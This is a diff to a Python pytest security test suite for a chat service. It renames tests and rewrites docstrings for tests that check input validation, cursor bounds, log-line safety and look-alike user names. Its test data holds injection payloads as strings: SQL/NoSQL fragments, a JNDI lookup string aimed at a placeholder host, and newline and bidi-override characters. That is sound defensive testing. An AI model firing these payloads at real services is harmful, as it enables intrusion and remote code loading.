@@ -1,4 +1,4 @@
-"""Text that would be more than text: in keys of the tables, in cursors, in names, in log lines."""
+"""Text that could act as more than text: in table keys, cursors, names and log lines."""
 
 import json
 from typing import Any
@@ -6,8 +6,8 @@ from typing import Any
 import pytest
 
 from tests.security.all_actions import ACTIONS, fields_of, frames
-from tests.security.attacked_chat import Told
-from tests.security.attacked_rooms import TEA, Town
+from tests.security.attacked_chat import AttackLog
+from tests.security.attacked_rooms import TEA, AttackedRooms
 from tests.support.harness import Frame
 
 STRANGE = [
@@ -15,7 +15,7 @@ STRANGE = [
     *("\x00", "tea\x00", "tea\u200b", "te\u0430", "~", "\U0010ffff", "tea'--", 'tea" OR "1', "$ne"),
     *(":room", "#name", "{}", "0" * 65, "", "tea,den", "tea;den", "\uff03", "\uff54ea"),
 ]
-"""What is no id, though some store might take it for one, or for more."""
+"""Values that are no ids, although a store could accept them as an id or a pattern."""
 
 PATTERNED = [
     (action, name)
@@ -26,16 +26,16 @@ PATTERNED = [
 
 
 @pytest.mark.parametrize(("action", "field"), PATTERNED)
-def test_ids(town: Town, action: str, field: str) -> None:
-    """An id has 1 to 64 plain characters; all else is refused before anything is looked up."""
+def test_invalid_ids_are_rejected(rooms: AttackedRooms, action: str, field: str) -> None:
+    """An id has 1 to 64 plain characters. Others are rejected before any request to DynamoDB."""
     for value in STRANGE:
         frame = {**next(frames(action)), field: value}
-        town.chat.calls.clear()
+        rooms.chat.calls.clear()
 
-        reply = town.chat.refuses("owner", frame, "bad_request")
+        reply = rooms.chat.rejects("owner", frame, "bad_request")
 
         assert reply["message"].startswith(f"$.{field}: ")
-        assert not town.chat.calls
+        assert not rooms.chat.calls
 
 
 USERS = [
@@ -55,20 +55,22 @@ USERS = [
 
 @pytest.mark.parametrize("user_id", USERS, ids=ascii)
 @pytest.mark.parametrize("action", ["setRole", "kickMember"])
-def test_user_ids(town: Town, action: str, user_id: str) -> None:
-    """A user is exactly who has that id: nothing that looks like it, starts so, or matches."""
+def test_strange_user_ids_match_no_user(rooms: AttackedRooms, action: str, user_id: str) -> None:
+    """A user id matches exactly: no similar id, no prefix and no pattern."""
     frame = {**next(frames(action)), **TEA, "userId": user_id}
 
-    reply = town.chat.refuses("owner", frame, "bad_request")
+    reply = rooms.chat.rejects("owner", frame, "bad_request")
 
-    assert reply["message"].startswith("$.userId: nobody of that id")
+    assert reply["message"].startswith("$.userId: no user with this id")
 
 
 @pytest.mark.parametrize("user_id", USERS, ids=ascii)
 @pytest.mark.parametrize("action", ["banMember", "muteMember"])
-def test_user_ids_of_nobody_there(town: Town, action: str, user_id: str) -> None:
-    """Who is kept out or silenced under a strange id is of that id, and nobody else is."""
-    chat = town.chat
+def test_bans_and_mutes_apply_to_the_exact_user_id(
+    rooms: AttackedRooms, action: str, user_id: str
+) -> None:
+    """A ban or mute of a strange user id changes that user's membership, and no other."""
+    chat = rooms.chat
     with chat.undone():
         before = chat.items()
         chat.does("owner", **{**next(frames(action)), **TEA, "userId": user_id})
@@ -79,53 +81,53 @@ def test_user_ids_of_nobody_there(town: Town, action: str, user_id: str) -> None
 
 
 @pytest.mark.parametrize("user_id", USERS, ids=ascii)
-def test_invited_user_ids(town: Town, user_id: str) -> None:
-    """Who is invited under a strange id is a member of that id, and nobody else is."""
-    chat = town.chat
+def test_invitations_apply_to_the_exact_user_id(rooms: AttackedRooms, user_id: str) -> None:
+    """An invitation of a strange user id makes that user a member, and no other."""
+    chat = rooms.chat
     with chat.undone():
         before = chat.items().keys()
-        chat.does("owner", "inviteMember", roomId=town.den, userId=user_id, name="x")
+        chat.does("owner", "inviteMember", roomId=rooms.private_id, userId=user_id, name="x")
 
         added = {(pk, sk) for _, pk, sk in chat.items().keys() - before}
         assert added == {
-            (f"ROOM#{town.den}", f"MEMBER#{user_id}"),
-            (f"USER#{user_id}", f"ROOM#{town.den}"),
+            (f"ROOM#{rooms.private_id}", f"MEMBER#{user_id}"),
+            (f"USER#{user_id}", f"ROOM#{rooms.private_id}"),
         }
-        people = chat.does("owner", "listRoles", roomId=town.den)["members"]
+        people = chat.does("owner", "listRoles", roomId=rooms.private_id)["members"]
         assert user_id in [member["userId"] for member in people]
         for who in ("stranger", "kicked"):
-            chat.refuses(who, {"action": "joinRoom", "roomId": town.den}, "room_not_found")
+            chat.rejects(who, {"action": "joinRoom", "roomId": rooms.private_id}, "room_not_found")
 
 
 CURSORS = [*USERS, "MESSAGE#", "INVITE#", "../", "A", "a", "zzz", "u-", "\U0010fffe"]
 
 
 @pytest.mark.parametrize("cursor", CURSORS, ids=ascii)
-def test_cursors_of_roles(town: Town, cursor: str) -> None:
-    """From wherever a list is read on, it is that room's list of members, and a page of it."""
-    with town.chat.nothing_happens():
-        reply = town.chat.does("visitor", "listRoles", **TEA, cursor=cursor)
+def test_cursors_of_roles_stay_in_the_list(rooms: AttackedRooms, cursor: str) -> None:
+    """From any cursor the page is a part of that room's list of members."""
+    with rooms.chat.nothing_happens():
+        reply = rooms.chat.does("visitor", "listRoles", **TEA, cursor=cursor)
 
-    everybody = town.chat.does("visitor", "listRoles", **TEA)["members"]
+    everybody = rooms.chat.does("visitor", "listRoles", **TEA)["members"]
     assert reply["members"] == [m for m in everybody if m["userId"].encode() > cursor.encode()]
 
 
 @pytest.mark.parametrize("cursor", ["x" * 257, "\U0010ffff" * 65, "", 7, ["a"], {"pk": "x"}])
-def test_no_cursors_of_roles(town: Town, cursor: Any) -> None:
-    """What no page before has given is refused by its field."""
+def test_invalid_cursors_of_roles_are_rejected(rooms: AttackedRooms, cursor: Any) -> None:
+    """A cursor that no earlier page contained is rejected by its field."""
     frame = {"action": "listRoles", **TEA, "cursor": cursor}
     code = "too_large" if isinstance(cursor, str) and 64 < len(cursor) < 200 else "bad_request"
 
-    assert town.chat.refuses("visitor", frame, code)["message"].startswith("$.cursor: ")
+    assert rooms.chat.rejects("visitor", frame, code)["message"].startswith("$.cursor: ")
 
 
 @pytest.mark.parametrize("cursor", ["-", "0", "Z", "_", "a", "tea", "z" * 64, "den"])
-def test_cursors_of_rooms(town: Town, cursor: str) -> None:
-    """From wherever the public rooms are read on, they are the public rooms."""
+def test_cursors_of_rooms_stay_in_the_list(rooms: AttackedRooms, cursor: str) -> None:
+    """From any cursor the page is a part of the list of rooms."""
     for which in ("public", "mine"):
-        everything = town.chat.does("stranger", "listRooms", which=which)["rooms"]
+        everything = rooms.chat.does("stranger", "listRooms", which=which)["rooms"]
 
-        reply = town.chat.does("stranger", "listRooms", which=which, cursor=cursor)
+        reply = rooms.chat.does("stranger", "listRooms", which=which, cursor=cursor)
 
         assert reply["rooms"] == [e for e in everything if e["room"]["roomId"] > cursor]
 
@@ -134,14 +136,14 @@ FIELDS = [
     *("x` - at `$.text", "` - at `$", "`", "x\n", "\n` - at `$.text", "x\u2028y", "", " "),
     *("Object contains unknown field `text`", "x" * 65, "\n" * 65, "x" * 100 + "` - at `$.text"),
 ]
-"""Names of fields that a parser of complaints might take for more than a name."""
+"""Names of fields that a parser of error messages could take for more than a name."""
 
 
 @pytest.mark.parametrize("field", FIELDS, ids=lambda field: ascii(field[:20]))
 @pytest.mark.parametrize("action", ["ping", "sendMessage"])
-def test_names_of_fields(town: Town, action: str, field: str) -> None:
-    """An unknown field is complained about by its own name, cut, and under no other path."""
-    reply = town.chat.refuses("owner", {**next(frames(action)), field: 1}, "bad_request")
+def test_unknown_fields_are_reported_by_name(rooms: AttackedRooms, action: str, field: str) -> None:
+    """An unknown field is reported by its own name, truncated, and under no other path."""
+    reply = rooms.chat.rejects("owner", {**next(frames(action)), field: 1}, "bad_request")
 
     assert reply["message"] == f"$.{field[:64]}: unknown field"
 
@@ -158,11 +160,11 @@ LINES = [
     "${jndi:ldap://eve.example/x}",
     "\\u000a\\n",
 ]
-"""What would end a line, colour a terminal, close a JSON string, or be formatted."""
+"""Texts that could end a line, colour a terminal, close a JSON string, or be formatted."""
 
 
 def said(line: str) -> dict[str, Frame]:
-    """Frames with the line wherever a client has a say."""
+    """Return frames with *line* in every place that a client can set."""
     return {
         "the action": {"action": line},
         "a requestId": {"action": "ping", "requestId": line[:64]},
@@ -178,31 +180,33 @@ def said(line: str) -> dict[str, Frame]:
 
 @pytest.mark.parametrize("line", LINES, ids=ascii)
 @pytest.mark.parametrize("where", said("").keys())
-def test_log_lines(town: Town, told: Told, line: str, where: str) -> None:
-    """Each event is one JSON object in one line of ASCII, and nothing of the client's is in it."""
-    before = len(told.lines)
+def test_a_log_line_is_one_json_object(
+    rooms: AttackedRooms, attack_log: AttackLog, line: str, where: str
+) -> None:
+    """Each event is one JSON object in one line of ASCII, and contains nothing of the client's."""
+    before = len(attack_log.lines)
 
-    with town.chat.undone():
-        town.chat.says("owner", said(line)[where])
+    with rooms.chat.undone():
+        rooms.chat.says("owner", said(line)[where])
 
-    (text,) = told.lines[before:]
+    (text,) = attack_log.lines[before:]
     logged = json.loads(text)
     assert text.isascii()
     assert (logged["level"], logged["message"]) == ("INFO", "handled")
     assert (logged["function"], logged["connectionId"]) == ("chat", "owner")
-    logged.pop("roomId", None)  # which is checked before, and no place for a line
+    logged.pop("roomId", None)  # is validated first, so it cannot contain the text
     assert line not in logged.values()
 
 
-def test_logs_hold_no_text(town: Town, told: Told) -> None:
-    """What people say, and how they and their rooms are called, is in no log line."""
-    with town.chat.undone():
-        town.chat.does("owner", "sendMessage", **TEA, text="a very quiet remark")
-        town.chat.does("owner", "updateRoom", **TEA, name="a very quiet name")
+def test_logs_contain_no_text_and_no_names(rooms: AttackedRooms, attack_log: AttackLog) -> None:
+    """No log line contains a text, or the name of a user or a room."""
+    with rooms.chat.undone():
+        rooms.chat.does("owner", "sendMessage", **TEA, text="a very quiet remark")
+        rooms.chat.does("owner", "updateRoom", **TEA, name="a very quiet name")
         frame = {"action": "sendMessage", **TEA, "text": "a very quiet remark", "x": "remark"}
-        town.chat.refuses("owner", frame, "bad_request")
+        rooms.chat.rejects("owner", frame, "bad_request")
 
-    assert "quiet" not in told.log.getvalue()
+    assert "quiet" not in attack_log.log.getvalue()
 
 
 LOOK_ALIKES = [
@@ -216,19 +220,22 @@ LOOK_ALIKES = [
 
 
 @pytest.mark.parametrize("name", LOOK_ALIKES, ids=ascii)
-def test_look_alike_names(town: Town, name: str) -> None:
-    """Allowed, as equal names are; they are another user's, unchanged, without the role."""
-    chat = town.chat
+def test_look_alike_names_have_no_permissions(rooms: AttackedRooms, name: str) -> None:
+    """Look-alike names are allowed, as equal names are.
+
+    They belong to another user without the role.
+    """
+    chat = rooms.chat
     with chat.undone():
         token = chat.secret(chat.issuer.token(sub="u-mallory", name=name))
-        assert chat.knocks("mallory", {"Authorization": f"Bearer {token}"}) == 200
+        assert chat.handshake("mallory", {"Authorization": f"Bearer {token}"}) == 200
         chat.replies["mallory"] = []
         chat.does("mallory", "joinRoom", **TEA)
 
         people = chat.does("visitor", "listMembers", **TEA)["members"]
         assert {"userId": "u-mallory", "name": name} in people
         assert {"userId": "u-owner", "name": "owner", "role": "owner"} in people
-        chat.refuses("mallory", {"action": "deleteRoom", **TEA}, "forbidden")
+        chat.rejects("mallory", {"action": "deleteRoom", **TEA}, "forbidden")
 
 
 HIDDEN = [
@@ -243,29 +250,29 @@ HIDDEN = [
 
 
 @pytest.mark.parametrize("name", [*HIDDEN, "\u3164", " ", "\u200d"], ids=ascii)
-def test_names_that_cannot_be_told_apart(town: Town, name: str) -> None:
-    """Names with what nobody sees, or what turns the line around, are refused for rooms."""
+def test_names_with_invisible_characters_are_rejected(rooms: AttackedRooms, name: str) -> None:
+    """Rooms and invitations reject names with characters that are invisible or reverse the line."""
     for action in ("createRoom", "updateRoom", "inviteMember"):
         fields = {"userId": "u-x"} if action == "inviteMember" else {}
         frame = {"action": action, "roomId": "tea", "name": name, **fields}
 
-        assert town.chat.refuses("owner", frame, "bad_request")["message"].startswith("$.name: ")
+        assert rooms.chat.rejects("owner", frame, "bad_request")["message"].startswith("$.name: ")
 
 
 @pytest.mark.parametrize("name", [*HIDDEN, "\u3164", " ", "\u200d"], ids=ascii)
-def test_tokens_with_such_names(town: Town, name: str) -> None:
-    """Whoever's token has such a name is called by their user id."""
-    chat = town.chat
+def test_tokens_with_invisible_names_use_the_user_id(rooms: AttackedRooms, name: str) -> None:
+    """If a token has such a name, its user is shown by the user id."""
+    chat = rooms.chat
     with chat.undone():
         token = chat.secret(chat.issuer.token(sub="u-mallory", name=name))
-        assert chat.knocks("mallory", {"Authorization": f"Bearer {token}"}) == 200
+        assert chat.handshake("mallory", {"Authorization": f"Bearer {token}"}) == 200
         chat.replies["mallory"] = []
 
         assert chat.does("mallory", "hello")["name"] in ("u-mallory", name.strip() or "u-mallory")
         assert chat.user_id("mallory") == "u-mallory"
 
 
-CALLED = {
+SHOWN_NAMES = {
     "\u202eecila\u202c\n\u200b": "ecila",
     "owner\u200b": "owner",
     "u\u2066\nmallory ": "umallory",
@@ -274,19 +281,19 @@ CALLED = {
     "\u3164": "user",
     "\u200d\u0301": "user",
 }
-"""User ids that nobody may have as a name, and what their users are called."""
+"""User ids that are no valid names, and the names that are shown for them."""
 
 
-@pytest.mark.parametrize(("user_id", "called"), CALLED.items(), ids=ascii)
+@pytest.mark.parametrize(("user_id", "called"), SHOWN_NAMES.items(), ids=ascii)
 @pytest.mark.parametrize("name", [None, "\u202e"], ids=ascii)
-def test_user_ids_that_are_no_names(
-    town: Town, user_id: str, called: str, name: str | None
+def test_unprintable_user_ids_are_shown_as_plain_names(
+    rooms: AttackedRooms, user_id: str, called: str, name: str | None
 ) -> None:
-    """In place of a name stands what can be seen of the user id; the id itself is as it was."""
-    chat = town.chat
+    """The name is made of the visible characters of the user id. The id itself does not change."""
+    chat = rooms.chat
     with chat.undone():
         token = chat.secret(chat.issuer.token(sub=user_id, name=name))
-        assert chat.knocks("mallory", {"Authorization": f"Bearer {token}"}) == 200
+        assert chat.handshake("mallory", {"Authorization": f"Bearer {token}"}) == 200
         chat.replies["mallory"] = []
         chat.does("mallory", "joinRoom", **TEA)
 
@@ -294,4 +301,4 @@ def test_user_ids_that_are_no_names(
         people = chat.does("visitor", "listMembers", **TEA)["members"]
         assert {"userId": user_id, "name": called} in people
         assert chat.heard("visitor")[-1]["member"] == {"userId": user_id, "name": called}
-        chat.refuses("mallory", {"action": "deleteRoom", **TEA}, "forbidden")
+        chat.rejects("mallory", {"action": "deleteRoom", **TEA}, "forbidden")
